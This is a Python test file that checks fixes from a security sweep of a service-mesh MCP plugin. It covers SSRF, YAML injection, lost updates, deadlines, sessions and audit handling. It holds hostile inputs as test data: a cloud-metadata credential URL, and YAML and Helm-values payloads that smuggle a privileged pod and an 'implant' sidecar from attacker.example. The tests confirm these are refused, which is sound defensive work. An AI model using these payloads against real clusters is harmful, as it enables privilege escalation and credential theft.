"""Issue 17: hostile input and other writers. Each finding of the security sweep
(../shared/reports/security-sweep.md, D1-D8, D14, D16) reproduced as the tester did it, over MCP (stdio and
streamable HTTP, `mesh-plugin serve` as a real process), the CLI as a real process, or the change path, and
now holding. The file-input findings (D9, D11-D13, D15) are in test_hostile_files.py."""
from __future__ import annotations

import asyncio
import http.server
import json
import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from mcpproc import BIN, answer, call_op, http_server, http_session, rss_kb, server_env, stdio_session, text_of
from mesh_plugin.errors import InvalidInput
from mesh_plugin.kube import KubeClient
from mesh_plugin.kube.kinds import KINDS

CANARY = "AKIA-FAKE-CANARY-7f3e"
SECRET = "FAKE-SECRET-CANARY-91ab"


# -- stand-ins ---------------------------------------------------------------------------------
class _Internal(http.server.BaseHTTPRequestHandler):
    """An internal JSON service (cloud metadata stand-in). Under /big it streams N MiB; /redirect points at /."""

    hits: list[str] = []
    big_mib = 300

    def do_GET(self) -> None:  # noqa: N802
        type(self).hits.append(self.path)
        if self.path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", "/latest/meta-data/")
            self.end_headers()
            return
        if self.path.startswith("/big"):
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            block = b"[" * (1024 * 1024)
            try:
                for _ in range(self.big_mib):
                    self.wfile.write(block)
            except OSError:
                pass
            return
        body = json.dumps({"AccessKeyId": CANARY, "SecretAccessKey": SECRET}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a: object) -> None:
        pass


@contextmanager
def internal_service() -> Iterator[int]:
    _Internal.hits = []
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Internal)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        yield srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


@contextmanager
def trickling_api() -> Iterator[str]:
    """A 'Kubernetes API' that answers 200 with a 100000-byte body, one byte every 1.5 s. Yields a kubeconfig."""
    lsock = socket.socket()
    lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(200)
    port = lsock.getsockname()[1]
    stop = threading.Event()

    def handle(conn: socket.socket) -> None:
        try:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
            while not stop.wait(1.5):
                conn.sendall(b" ")
        except OSError:
            pass
        finally:
            conn.close()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = lsock.accept()
            except OSError:
                return
            threading.Thread(target=handle, args=(conn,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    import tempfile

    kc = tempfile.NamedTemporaryFile("w", suffix=".kubeconfig", delete=False)
    yaml.safe_dump({"apiVersion": "v1", "kind": "Config", "current-context": "trickle",
                    "clusters": [{"name": "t", "cluster": {"server": f"http://127.0.0.1:{port}"}}],
                    "users": [{"name": "u", "user": {"token": "x"}}],
                    "contexts": [{"name": "trickle", "context": {"cluster": "t", "user": "u"}}]}, kc)
    kc.close()
    try:
        yield kc.name
    finally:
        stop.set()
        lsock.close()
        os.unlink(kc.name)


def cli(*args: str, env: dict[str, str], timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([BIN, *args], env=env, capture_output=True, text=True, timeout=timeout)


def vs_of(sb, name: str = "reviews") -> dict:
    return sb.api.store[("networking.istio.io", "virtualservices")][("production", name)]


def dr_of(sb, name: str = "payment-api") -> dict:
    return sb.api.store[("networking.istio.io", "destinationrules")][("production", name)]


# -- D1, D2: SSRF through prometheus_url, unbounded answers ------------------------------------------
@pytest.mark.parametrize("read_only", [True, False])
async def test_d1_no_tool_argument_names_a_url(sandbox, read_only):
    """Where Prometheus is, is configuration: a caller cannot make the server fetch a URL of its choosing."""
    with internal_service() as port:
        url = f"http://127.0.0.1:{port}/latest/meta-data/iam/security-credentials/node-role#"
        async with stdio_session(server_env(sandbox.kubeconfig), *(["--read-only"] if read_only else [])) as s:
            for tool, args in (("mtls_status", {"namespace": "production"}),
                               ("mtls_migration_plan", {"namespace": "production"}),
                               ("recommend_outlier_detection", {"host": "payment-api", "namespace": "production"})):
                r = await call_op(s, tool, {**args, "prometheus_url": url})
                out = text_of(r)
                assert r.is_error and "has no parameter 'prometheus_url'" in out and "Next:" in out, out
            for t in (await s.list_tools()).tools:
                assert not any("url" in p for p in t.input_schema["properties"]), t.name
        assert _Internal.hits == []  # nothing was fetched


async def test_d1_a_configured_url_that_is_not_prometheus_is_refused_without_echo(sandbox):
    with internal_service() as port:
        for base, why in ((f"http://127.0.0.1:{port}/latest/meta-data", "not Prometheus API JSON"),
                          (f"http://127.0.0.1:{port}/redirect", "302")):
            hits = len(_Internal.hits)
            async with http_server(server_env(sandbox.kubeconfig), "--read-only", "--prometheus-url", base) as (hp, _):
                async with http_session(hp) as s:
                    r = await call_op(s, "mtls_status", {"namespace": "production"})
            out = text_of(r)
            assert not r.is_error and why in out, out
            assert CANARY not in out and SECRET not in out
            assert all(not h.startswith("/latest") for h in _Internal.hits[hits:]) or why != "302"  # not followed
    with pytest.raises(subprocess.CalledProcessError):  # a malformed URL stops the server before it serves
        subprocess.run([BIN, "--prometheus-url", "http://x/#frag", "tools"], check=True, capture_output=True,
                       env=server_env(sandbox.kubeconfig), timeout=60)


async def test_d2_a_huge_answer_is_cut_without_growing_the_server(sandbox):
    with internal_service() as port:
        base = f"http://127.0.0.1:{port}/big"
        async with http_server(server_env(sandbox.kubeconfig), "--read-only", "--prometheus-url", base) as (hport, proc):
            async with http_session(hport) as s:
                r = await call_op(s, "list_workloads", {"namespace": "production"})
                before = rss_kb(proc.pid)
                r = await call_op(s, "mtls_status", {"namespace": "production"})
                out = text_of(r)
                after = rss_kb(proc.pid)
    assert "more than" in out and "bytes" in out, out
    assert after - before < 100_000, (before, after)  # 300 MiB offered; at most the cap (16 MiB) is read


# -- D3, D10: YAML injection, writes limited to their kinds --------------------------------------------
INJECTED_POD = ("https://issuer.example/\n---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: injected-by-issuer\n"
                "  namespace: kube-system\nspec:\n  hostPID: true\n  containers:\n  - name: x\n"
                "    image: attacker.example/root:latest\n---\n#")


async def test_d3_newline_in_issuer_injects_nothing(fresh_sandbox, tmp_path):
    ras = fresh_sandbox.api.store[("security.istio.io", "requestauthentications")]
    before = {k: v["metadata"]["resourceVersion"] for k, v in ras.items()}
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    async with stdio_session(env) as s:
        r = await call_op(s, "generate_jwt_policy", {
            "workload": "frontend", "namespace": "production", "apply": True, "confirm": "production",
            "jwt": {"jwks_uri": "https://issuer.example/jwks", "issuer": INJECTED_POD}})
        out = text_of(r)
        assert r.is_error and "issuer" in out and "Next:" in out, out
        # YAML-looking text without a newline is data: it stays one string in one field
        tricky = 'https://issuer.example/" ---\'{}: [x]'
        r = await call_op(s, "generate_jwt_policy", {"workload": "frontend", "namespace": "production",
                                                     "jwt": {"jwks_uri": "https://issuer.example/jwks",
                                                             "issuer": tricky}})
        assert not r.is_error, text_of(r)
        docs = list(yaml.safe_load_all(answer(r, "generate_jwt_policy")["manifests_for_review"]))
    assert [d["kind"] for d in docs] == ["RequestAuthentication", "AuthorizationPolicy"]
    assert docs[0]["spec"]["jwtRules"][0]["issuer"] == tricky
    assert docs[1]["spec"]["action"] == "DENY" and docs[1]["spec"]["rules"] == [  # on frontend's HTTP port only
        {"from": [{"source": {"notRequestPrincipals": ["*"]}}], "to": [{"operation": {"ports": ["8080"]}}]}]
    assert ("kube-system", "injected-by-issuer") not in fresh_sandbox.api.store[("", "pods")]
    assert {k: v["metadata"]["resourceVersion"] for k, v in ras.items()} == before  # nothing written


async def test_d10_helm_values_keys_cannot_inject_nested_values(sandbox):
    evil = ("x: 1\nsidecarInjectorWebhook:\n  templates:\n    custom: |\n      spec:\n        containers:\n"
            "        - name: implant\n          image: attacker.example/implant\n  defaultTemplates: [sidecar, custom]\ny")
    async with stdio_session(server_env(sandbox.kubeconfig)) as s:
        for tool in ("install_plan", "install_apply"):
            r = await call_op(s, tool, {"mesh": "istio", "values": {evil: 1}})
            assert r.is_error and "Invalid Helm values key" in text_of(r), text_of(r)
        r = await call_op(s, "install_plan", {"mesh": "istio", "values": {
            "meshConfig.accessLogFile": "/dev/stdout\nsidecarInjectorWebhook: {}", "pilotExtra": "a: b"}})
        assert not r.is_error, text_of(r)
        values = yaml.safe_load(answer(r, "install_plan")["files"]["istiod-values.yaml"])
    assert "sidecarInjectorWebhook" not in values
    assert values["meshConfig"]["accessLogFile"] == "/dev/stdout\nsidecarInjectorWebhook: {}"
    assert values["pilotExtra"] == "a: b" and values["replicaCount"] == 2  # the keys istiod's chart reads


def test_d3_a_write_applies_only_the_kinds_it_exists_for(fresh_sandbox, tmp_path, monkeypatch):
    from mesh_plugin.changes.path import execute_all

    monkeypatch.setenv("MESH_PLUGIN_STATE_DIR", str(tmp_path))
    client = KubeClient.connect(fresh_sandbox.kubeconfig)
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "implant", "namespace": "production"},
           "spec": {"containers": [{"name": "x", "image": "x"}]}}
    ra = {"apiVersion": "security.istio.io/v1", "kind": "RequestAuthentication",
          "metadata": {"name": "ok", "namespace": "kube-system"}, "spec": {}}
    before = fresh_sandbox.api.requests_made
    with pytest.raises(InvalidInput, match="may only write AuthorizationPolicy, RequestAuthentication, not Pod"):
        execute_all(client, [pod], apply=True, confirm=None, kinds={"RequestAuthentication", "AuthorizationPolicy"})
    with pytest.raises(InvalidInput, match="only write in namespace 'production'"):
        execute_all(client, [ra], apply=True, confirm=None, kinds={"RequestAuthentication"}, namespace="production")
    assert fresh_sandbox.api.requests_made == before  # refused before any request


# -- D4: lost updates ------------------------------------------------------------------------------------
async def test_d4_a_kubectl_edit_within_the_cache_window_is_kept(fresh_sandbox, tmp_path, kubectl):
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    async with http_server(env) as (port, _):
        async with http_session(port) as s:
            r = await call_op(s, "describe_routing", {"host": "reviews", "namespace": "production"})
            assert not r.is_error  # the server now holds a 5 s LIST cache
            patch = json.dumps([{"op": "add", "path": "/spec/http/0/timeout", "value": "7s"},
                                {"op": "add", "path": "/metadata/labels", "value": {"edited-by": "oncall-human"}}])
            subprocess.run([kubectl, "--kubeconfig", fresh_sandbox.kubeconfig, "patch", "virtualservice", "reviews",
                            "-n", "production", "--type", "json", "-p", patch], check=True, capture_output=True)
            r = await call_op(s, "set_traffic_split", {"host": "reviews", "namespace": "production",
                                                        "weights": {"v1": 50, "v2": 50}, "apply": True,
                                                        "confirm": "production"})
            assert not r.is_error, text_of(r)
    vs = vs_of(fresh_sandbox)
    assert vs["spec"]["http"][0]["timeout"] == "7s" and vs["metadata"]["labels"] == {"edited-by": "oncall-human"}
    assert [d["weight"] for d in vs["spec"]["http"][-1]["route"]] == [50, 50]


async def test_d4_another_writer_between_read_and_write_gets_a_conflict_not_an_overwrite(fresh_sandbox, tmp_path):
    def edit() -> None:
        fresh_sandbox.edit("networking.istio.io", "virtualservices", "production", "reviews",
                           lambda o: o["spec"]["http"][0].__setitem__("timeout", "9s"))

    fresh_sandbox.after_read(r"/virtualservices$", edit)  # right after the tool's (fresh) LIST
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    async with stdio_session(env) as s:
        r = await call_op(s, "set_traffic_split", {"host": "reviews", "namespace": "production",
                                                    "weights": {"v1": 50, "v2": 50}, "apply": True,
                                                    "confirm": "production"})
        out = text_of(r)
    assert r.is_error and "Conflict" in out and "changed since it was read" in out and "+    timeout: 9s" in out, out
    vs = vs_of(fresh_sandbox)
    assert vs["spec"]["http"][0]["timeout"] == "9s"
    assert [d["weight"] for d in vs["spec"]["http"][-1]["route"]] == [80, 30]  # as seeded: nothing written


async def test_d4_two_servers_keep_each_others_edits(fresh_sandbox, tmp_path):
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    args = {"host": "reviews", "namespace": "production", "apply": True, "confirm": "production"}
    async with http_server(env) as (pa, _), http_server(env) as (pb, _):
        async with http_session(pa) as a, http_session(pb) as b:
            for s in (a, b):  # both warm their LIST caches
                assert not (await call_op(s, "describe_routing", {"host": "reviews",
                                                                   "namespace": "production"})).is_error
            r = await call_op(a, "set_traffic_mirror", {**args, "subset": "v2", "percent": 5})
            assert not r.is_error, text_of(r)
            r = await call_op(b, "set_traffic_split", {**args, "weights": {"v1": 70, "v2": 30}})
            assert not r.is_error, text_of(r)
    route = vs_of(fresh_sandbox)["spec"]["http"][-1]
    assert route["mirror"]["subset"] == "v2" and [d["weight"] for d in route["route"]] == [70, 30]


def test_d4_two_cli_processes_at_once_never_lose_an_update(fresh_sandbox, tmp_path):
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    for i in range(4):
        w = 10 + i
        procs = [subprocess.Popen([BIN, "traffic", "split", "reviews", f"v1={100 - w}", f"v2={w}", "-n", "production",
                                   "--apply", "--confirm", "production"], env=env, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True),
                 subprocess.Popen([BIN, "traffic", "mirror", "reviews", "v2", str(i + 1), "-n", "production",
                                   "--apply", "--confirm", "production"], env=env, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True)]
        (split_out, split_err), (mirror_out, mirror_err) = (p.communicate(timeout=120) for p in procs)
        route = vs_of(fresh_sandbox)["spec"]["http"][-1]
        split_ok, mirror_ok = procs[0].returncode == 0, procs[1].returncode == 0
        assert split_ok or "changed since it was read" in split_err, split_err
        assert mirror_ok or "changed since it was read" in mirror_err, mirror_err
        assert ([d["weight"] for d in route["route"]] == [100 - w, w]) == split_ok, (i, split_err, route)
        assert ((route.get("mirrorPercentage") or {}).get("value") == i + 1) == mirror_ok, (i, mirror_err, route)


# -- D5, D6: bookkeeping after a write, and a lost answer ------------------------------------------------
def test_d5_cli_refuses_before_writing_when_the_state_dir_cannot_be_written(fresh_sandbox, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    rv = dr_of(fresh_sandbox)["metadata"]["resourceVersion"]
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(blocker / "changes"))
    r = cli("set-outlier", "payment-api", "consecutive5xxErrors=41", "-n", "production", "--apply", "--confirm",
            "production", env=env)
    assert r.returncode == 2 and "Nothing was applied" in r.stderr and "MESH_PLUGIN_STATE_DIR" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr
    assert dr_of(fresh_sandbox)["metadata"]["resourceVersion"] == rv
    home = tmp_path / "ro-home"
    home.mkdir()
    home.chmod(0o500)
    env = server_env(fresh_sandbox.kubeconfig, HOME=str(home), XDG_STATE_HOME=str(home / "state"))
    if os.geteuid() != 0:  # root writes anywhere: the state-dir-under-a-file case above covers it
        r = cli("set-outlier", "payment-api", "consecutive5xxErrors=42", "-n", "production", "--apply", "--confirm",
                "production", env=env)
        assert r.returncode == 2 and "Nothing was applied" in r.stderr
    ok = cli("set-outlier", "payment-api", "consecutive5xxErrors=43", "-n", "production", "--apply", "--confirm",
             "production", env=server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path / "s")))
    assert ok.returncode == 0, ok.stderr
    audit_lines = [line for line in ok.stderr.splitlines() if line.startswith("audit:")]
    assert len(audit_lines) == 1 and "outcome=applied handle=" in audit_lines[0]  # always on stderr


async def test_d5_mcp_and_multi_object_writes_refuse_when_the_audit_file_cannot_be_written(fresh_sandbox, tmp_path):
    dr = dr_of(fresh_sandbox, "reviews")
    fresh_sandbox.edit("networking.istio.io", "destinationrules", "production", "reviews",
                       lambda o: o["spec"].__setitem__("subsets", [s for s in o["spec"]["subsets"]
                                                                   if s["name"] != "v2"]))
    rv_dr, rv_vs = dr["metadata"]["resourceVersion"], vs_of(fresh_sandbox)["metadata"]["resourceVersion"]
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path / "s"),
                     MESH_PLUGIN_AUDIT_FILE=str(tmp_path))  # a folder: cannot be appended to
    async with stdio_session(env) as s:
        r = await call_op(s, "set_traffic_split", {"host": "reviews", "namespace": "production",
                                                    "weights": {"v1": 10, "v2": 90}, "apply": True,
                                                    "confirm": "production"})
    assert r.is_error and "Nothing was applied" in text_of(r) and "MESH_PLUGIN_AUDIT_FILE" in text_of(r)
    assert dr_of(fresh_sandbox, "reviews")["metadata"]["resourceVersion"] == rv_dr  # the DR did not gain v2
    assert vs_of(fresh_sandbox)["metadata"]["resourceVersion"] == rv_vs


async def test_d6_a_write_whose_answer_is_lost_is_reported_as_applied_after_a_re_read(fresh_sandbox, tmp_path):
    fresh_sandbox.inject_fault(r"/destinationrules/payment-api$", 0, method="PUT", query_key="!dryRun", times=1,
                               drop=True)
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path / "s"),
                     MESH_PLUGIN_AUDIT_FILE=str(tmp_path / "audit.jsonl"))
    async with stdio_session(env) as s:
        r = await call_op(s, "set_outlier_detection", {"host": "payment-api", "namespace": "production",
                                                        "settings": {"consecutive5xxErrors": 44}, "apply": True,
                                                        "confirm": "production"})
        assert not r.is_error, text_of(r)
        [change] = answer(r, "set_outlier_detection")["changes"]
        assert change["applied"] and any("answer was lost" in w for w in change["warnings"])
        assert dr_of(fresh_sandbox)["spec"]["trafficPolicy"]["outlierDetection"]["consecutive5xxErrors"] == 44
        [line] = (tmp_path / "audit.jsonl").read_text().splitlines()
        assert json.loads(line)["rollback_handle"] == change["rollback_handle"]
        r = await call_op(s, "rollback_change", {"handle": change["rollback_handle"], "apply": True,
                                                  "confirm": "production"})
        assert not r.is_error, text_of(r)
    assert dr_of(fresh_sandbox)["spec"]["trafficPolicy"]["outlierDetection"]["consecutive5xxErrors"] != 44


async def test_d6_when_the_outcome_cannot_be_told_the_answer_says_it_may_have_been_applied(fresh_sandbox, tmp_path):
    def api_gone_for_reads() -> None:
        fresh_sandbox.inject_fault(r"/destinationrules/payment-api$", 500, method="GET")

    fresh_sandbox.inject_fault(r"/destinationrules/payment-api$", 0, method="PUT", query_key="!dryRun", times=1,
                               drop=True, after=api_gone_for_reads)
    env = server_env(fresh_sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path / "s"),
                     MESH_PLUGIN_AUDIT_FILE=str(tmp_path / "audit.jsonl"))
    async with stdio_session(env) as s:
        r = await call_op(s, "set_outlier_detection", {"host": "payment-api", "namespace": "production",
                                                        "settings": {"consecutive5xxErrors": 45}, "apply": True,
                                                        "confirm": "production"})
    out = text_of(r)
    assert r.is_error and "OutcomeUnknown" in out and "MAY HAVE BEEN APPLIED" in out
    assert "kubectl get destinationrules.networking.istio.io -n production payment-api -o yaml" in out
    assert json.loads((tmp_path / "audit.jsonl").read_text())["outcome"] == "unknown"


# -- D7: deadlines and bounded concurrency ----------------------------------------------------------------
def test_d7_cli_call_ends_within_its_deadline_on_a_trickling_api():
    with trickling_api() as kc:
        started = time.monotonic()
        r = cli("--timeout", "2", "workloads", "-n", "production", env=server_env(kc), timeout=60)
        took = time.monotonic() - started
    assert r.returncode == 2 and r.stderr.startswith("Error: ") and "Traceback" not in r.stderr
    assert "did not answer" in r.stderr or "deadline" in r.stderr, r.stderr
    assert took < 30  # it hung past 90 s before; the overall deadline is 3 x --timeout


async def test_d7_trickled_calls_do_not_stall_the_server():
    with trickling_api() as kc:
        async with http_server(server_env(kc), "--timeout", "2") as (port, _):
            async with http_session(port) as s:
                started = time.monotonic()
                stuck = [asyncio.create_task(call_op(s, "list_workloads", {"namespace": "production"}))
                         for _ in range(40)]
                await asyncio.sleep(1.0)
                t0 = time.monotonic()
                r = await call_op(s, "uninstall_plan", {"mesh": "istio"})  # needs no API
                api_free = time.monotonic() - t0
                done = await asyncio.wait_for(asyncio.gather(*stuck), timeout=60)
                took = time.monotonic() - started
    assert not r.is_error and api_free < 5, api_free
    assert all(d.is_error and ("Timeout" in text_of(d) or "busy" in text_of(d)) for d in done), [
        text_of(d)[:200] for d in done if not (d.is_error and ("Timeout" in text_of(d) or "busy" in text_of(d)))][:3]
    assert took < 30, took


# -- D8: sessions ------------------------------------------------------------------------------------------
async def test_d8_abandoned_sessions_cannot_lock_other_clients_out(sandbox):
    import httpx2 as httpx

    env = server_env(sandbox.kubeconfig, MESH_PLUGIN_AUTH_TOKEN="tok-123", MESH_PLUGIN_MAX_SESSIONS="20")
    init = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "abandon", "version": "0"}}}
    async with http_server(env) as (port, proc):
        async with httpx.AsyncClient(timeout=30) as h:
            url = f"http://127.0.0.1:{port}/mcp"
            hdr = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
            assert (await h.post(url, json=init, headers=hdr)).status_code == 401
            codes = []
            for _ in range(300):  # the lowercase scheme is accepted (RFC 7235)
                resp = await h.post(url, json=init, headers={**hdr, "Authorization": "bearer tok-123"})
                codes.append(resp.status_code)
            assert set(codes) == {200}, set(codes)
        async with http_session(port, token="tok-123") as s:
            r = await call_op(s, "list_workloads", {"namespace": "production", "limit": 1})
            assert not r.is_error
        assert rss_kb(proc.pid) < 400_000


# -- D16: errors do not echo unbounded input --------------------------------------------------------------
async def test_d16_errors_are_bounded(sandbox, tmp_path):
    async with stdio_session(server_env(sandbox.kubeconfig), cwd=str(tmp_path)) as s:
        for tool, args in (("mesh_overview", {"files": ["a" * 3_000_000]}),
                           ("set_traffic_split", {"host": "reviews", "namespace": "production",
                                                  "weights": {"v" * 3_000_000: 100}})):
            r = await call_op(s, tool, args)
            out = text_of(r)
            assert r.is_error and len(out.encode()) < 8000 and "Next:" in out, (tool, len(out))


# -- D14: log levels in a production namespace ------------------------------------------------------------
async def test_d14_log_level_needs_the_production_confirmation(sandbox, tmp_path):
    pod = sandbox.pod_name("payment-api-v1")
    env = server_env(sandbox.kubeconfig, MESH_PLUGIN_STATE_DIR=str(tmp_path))
    async with stdio_session(env) as s:
        r = await call_op(s, "proxy_log_level", {"pod": pod, "namespace": "production", "level": "trace",
                                                 "apply": True})
        out = text_of(r)
        assert r.is_error and "ConfirmationRequired" in out and 'confirm="production"' in out, out
        r = await call_op(s, "proxy_config", {"kind": "log", "pod": pod, "namespace": "production",
                                              "filter": {"name": "upstream"}})
        assert answer(r, "proxy_config")["tables"][0]["rows"] == [["upstream", "warning"]]


async def test_sigterm_after_a_cancelled_call_leaves_no_sandbox_behind():
    """Issue 20 (real MCP clients): `serve --sandbox`, a call cancelled by the client, then SIGTERM: the
    process ends and leaves no sandbox folder and no process started from it (Envoys, istiod)."""
    import signal

    import anyio

    async with http_server(server_env(None), "--sandbox") as (port, proc):
        line = b""
        with anyio.fail_after(30):
            while b"KUBECONFIG=" not in line:
                line = await proc.stderr.readline()  # type: ignore[union-attr]
        folder = os.path.dirname(line.decode().split("KUBECONFIG=", 1)[1].strip())
        assert os.path.isdir(folder)
        async with http_session(port) as s:
            assert not (await call_op(s, "list_workloads", {})).is_error
            with anyio.move_on_after(0.05):  # the client gives up: notifications/cancelled
                await call_op(s, "analyze", {})
        proc.send_signal(signal.SIGTERM)
        with anyio.fail_after(30):
            rc = await proc.wait()
    assert rc == 143
    assert not os.path.exists(folder)
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if folder.encode() in fh.read():
                    left.append(pid)
        except OSError:
            continue
    assert not left, left
